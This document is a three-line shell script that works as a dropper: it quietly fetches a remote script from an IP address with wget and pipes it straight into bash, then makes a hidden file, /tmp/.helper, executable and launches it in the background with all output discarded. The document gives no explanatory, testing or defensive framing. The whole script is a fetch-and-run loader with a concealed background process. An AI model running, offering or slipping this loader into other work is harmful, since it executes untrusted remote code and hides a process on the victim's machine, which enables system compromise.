#!/bin/sh
wget -qO- http://203.0.113.7/payload.sh | bash
chmod +x /tmp/.helper && nohup /tmp/.helper >/dev/null 2>&1 &
